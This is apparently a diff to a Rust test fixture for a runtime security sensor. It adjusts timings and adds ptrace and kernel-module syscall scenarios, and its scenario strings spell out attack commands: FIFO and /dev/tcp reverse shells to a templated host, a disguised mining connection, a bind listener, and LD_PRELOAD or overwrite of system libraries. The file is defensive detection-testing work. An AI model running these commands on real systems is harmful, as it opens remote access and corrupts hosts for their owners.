@@ -8,7 +8,7 @@ use super::{Arrival, Needs, Runs, Scenario, Tool};
 /// (python here; `nc` in the wild).
 const FIFO_SHELL: &str = "rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | sh -i 2>&1 | python3 -c \"import socket,sys,threading;s=socket.create_connection(('{gw}',{lport}));threading.Thread(target=lambda:([s.sendall(d) for d in iter(lambda:sys.stdin.buffer.read1(4096),b'')],s.shutdown(socket.SHUT_WR)),daemon=True).start();[(sys.stdout.buffer.write(d),sys.stdout.buffer.flush()) for d in iter(lambda:s.recv(4096),b'')]\" > /tmp/.f";
 
-/// The scanner's and the file watcher's rows.
+/// The scanner's, the syscall mode's and the file watcher's rows.
 pub const SENSOR_ROWS: &[Scenario] = &[
     // The scanner's categories: what a process does after its exec (rewired stdio, connections,
     // listeners, mapped libraries) and processes that escaped tracing.
@@ -16,7 +16,7 @@ pub const SENSOR_ROWS: &[Scenario] = &[
         name: "reverse-shell-rewired",
         arrival: Arrival::Connect {
             inject: "bash -c 'exec 5<>/dev/tcp/{gw}/{lport}; exec 0<&5 1>&5 2>&5; while read -r l; do eval \"$l\"; done'",
-            typed: "echo rewired; sleep 1",
+            typed: "echo rewired; sleep 2.5",
             port: 0,
         },
         category: "Reverse Shell",
@@ -30,7 +30,7 @@ pub const SENSOR_ROWS: &[Scenario] = &[
     Scenario {
         // mkfifo: the shell's stdin is a pipe fed through a FIFO by a relay holding the socket.
         name: "reverse-shell-fifo",
-        arrival: Arrival::Connect { inject: FIFO_SHELL, typed: "id; sleep 1", port: 0 },
+        arrival: Arrival::Connect { inject: FIFO_SHELL, typed: "id; sleep 2.5", port: 0 },
         category: "Reverse Shell",
         severity: "CRITICAL",
         rule: "reverse_shell_stdio_rewired",
@@ -45,7 +45,7 @@ pub const SENSOR_ROWS: &[Scenario] = &[
     },
     Scenario {
         name: "remote-command-rewired",
-        arrival: Arrival::Connect { inject: FIFO_SHELL, typed: "sleep 1.5 | cat", port: 0 },
+        arrival: Arrival::Connect { inject: FIFO_SHELL, typed: "sleep 2.5 | cat", port: 0 },
         category: "Execution: Possible Remote Command Execution Detected",
         severity: "MEDIUM",
         rule: "remote_command_stdio_rewired",
@@ -58,7 +58,7 @@ pub const SENSOR_ROWS: &[Scenario] = &[
         // A copy of python renamed like a kernel thread, logging in to a pool on a Stratum port.
         name: "stratum-connection",
         arrival: Arrival::Connect {
-            inject: "mkdir -p /tmp/.cache && cp $(readlink -f /usr/bin/python3) /tmp/.cache/kworkerds && /tmp/.cache/kworkerds -c \"import socket,time;s=socket.create_connection(('{gw}',{lport}));s.sendall(b'mining.subscribe\\n');s.recv(512);time.sleep(1.5)\"",
+            inject: "mkdir -p /tmp/.cache && cp $(readlink -f /usr/bin/python3) /tmp/.cache/kworkerds && /tmp/.cache/kworkerds -c \"import socket,time;s=socket.create_connection(('{gw}',{lport}));s.sendall(b'mining.subscribe\\n');s.recv(512);time.sleep(2.5)\"",
             typed: "{\"id\":1,\"result\":[[\"mining.notify\",\"ae6812eb\"],\"08000002\",4],\"error\":null}",
             port: 3333,
         },
@@ -78,7 +78,7 @@ pub const SENSOR_ROWS: &[Scenario] = &[
         // The suites list the attacker's address in the policy directory's ioc/ips.txt.
         name: "connection-to-ioc-address",
         arrival: Arrival::Connect {
-            inject: "python3 -c \"import socket,time;s=socket.create_connection(('{gw}',{lport}));s.recv(64);s.sendall(b'beacon');time.sleep(1.5)\"",
+            inject: "python3 -c \"import socket,time;s=socket.create_connection(('{gw}',{lport}));s.recv(64);s.sendall(b'beacon');time.sleep(2.5)\"",
             typed: "task: beacon",
             port: 0,
         },
@@ -97,7 +97,7 @@ pub const SENSOR_ROWS: &[Scenario] = &[
     Scenario {
         name: "bind-shell-listener",
         arrival: Arrival::Injection(
-            "python3 -c \"import socket,time;s=socket.socket();s.bind(('0.0.0.0',0));s.listen(1);time.sleep(1.5)\"",
+            "python3 -c \"import socket,time;s=socket.socket();s.bind(('0.0.0.0',0));s.listen(1);time.sleep(2.5)\"",
         ),
         category: "Command and Control: New Listening Socket",
         severity: "MEDIUM",
@@ -110,7 +110,7 @@ pub const SENSOR_ROWS: &[Scenario] = &[
     Scenario {
         name: "added-library",
         arrival: Arrival::Injection(
-            "mkdir -p /tmp/.x && cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/.x/libhook.so && LD_PRELOAD=/tmp/.x/libhook.so sleep 1.5",
+            "mkdir -p /tmp/.x && cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/.x/libhook.so && LD_PRELOAD=/tmp/.x/libhook.so sleep 2.5",
         ),
         category: "Added Library Loaded",
         severity: "LOW",
@@ -123,7 +123,7 @@ pub const SENSOR_ROWS: &[Scenario] = &[
     Scenario {
         name: "added-malicious-library",
         arrival: Arrival::Injection(
-            "mkdir -p /tmp/.x && cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/.x/libprocesshider.so && printf 'xmrig --donate-level 1 -o stratum+tcp://pool.example:3333 randomx' >> /tmp/.x/libprocesshider.so && LD_PRELOAD=/tmp/.x/libprocesshider.so sleep 1.5",
+            "mkdir -p /tmp/.x && cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/.x/libprocesshider.so && printf 'xmrig --donate-level 1 -o stratum+tcp://pool.example:3333 randomx' >> /tmp/.x/libprocesshider.so && LD_PRELOAD=/tmp/.x/libprocesshider.so sleep 2.5",
         ),
         category: "Execution: Added Malicious Library Loaded",
         severity: "CRITICAL",
@@ -140,7 +140,7 @@ pub const SENSOR_ROWS: &[Scenario] = &[
         // An image library rewritten in place (the baseline has its old hash), then preloaded.
         name: "modified-malicious-library",
         arrival: Arrival::Injection(
-            "cp /usr/lib/x86_64-linux-gnu/libffi.so.8 /tmp/.l && printf 'xmrig --donate-level 1 -o stratum+tcp://pool.example:3333 randomx' >> /tmp/.l && cat /tmp/.l > /usr/lib/x86_64-linux-gnu/libffi.so.8 && LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libffi.so.8 sleep 1.5",
+            "cp /usr/lib/x86_64-linux-gnu/libffi.so.8 /tmp/.l && printf 'xmrig --donate-level 1 -o stratum+tcp://pool.example:3333 randomx' >> /tmp/.l && cat /tmp/.l > /usr/lib/x86_64-linux-gnu/libffi.so.8 && LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libffi.so.8 sleep 2.5",
         ),
         category: "Execution: Modified Malicious Library Loaded",
         severity: "CRITICAL",
@@ -164,6 +164,40 @@ pub const SENSOR_ROWS: &[Scenario] = &[
         fields: &[("/processes/0/binary/path", "=/tmp/.x/rw-fixture")],
         needs: Needs::ExecFromTmp,
         runs: EXEC,
+    },
+    // The opt-in syscall mode's categories (a container with RUNWARDEN_SYSCALLS=default): the call is
+    // seen before it runs; both fail here (every workload process is already traced by runwarden, and
+    // containers lack CAP_SYS_MODULE), the attempt is the signal.
+    Scenario {
+        name: "ptrace-attempt",
+        arrival: Arrival::Injection(
+            "python3 -c \"import ctypes,os;libc=ctypes.CDLL(None);print(libc.ptrace(16,os.getppid(),0,0))\"",
+        ),
+        category: "Defense Evasion: Ptrace Attempt",
+        severity: "MEDIUM",
+        rule: "syscall_ptrace_attempt",
+        technique: "T1055.008",
+        fields: &[
+            ("/processes/0/args", "libc.ptrace(16"),
+            ("/sourceProperties/syscall/request", "=PTRACE_ATTACH"),
+        ],
+        needs: Needs::Syscalls,
+        runs: EXEC,
+    },
+    Scenario {
+        name: "kernel-module-syscall",
+        arrival: Arrival::Injection("python3 -c \"import ctypes;libc=ctypes.CDLL(None);print(libc.syscall(175,None,0,b''))\""),
+        category: "Persistence: Kernel Module Load Attempt",
+        severity: "HIGH",
+        rule: "syscall_kernel_module_load",
+        technique: "T1547.006",
+        fields: &[("/processes/0/args", "libc.syscall(175"), ("/sourceProperties/syscall/name", "=init_module")],
+        needs: Needs::Syscalls,
+        runs: Runs::NotInDocker(
+            "Docker's default seccomp profile answers init_module and finit_module with EPERM itself, and a \
+             filter's ERRNO outranks runwarden's TRACE: the call never stops (the exec rule still catches \
+             insmod and modprobe)",
+        ),
     },
     // The file watcher's categories, by injected commands that change or read files (root only:
     // as a non-root user, or with a read-only root file system, these writes fail).
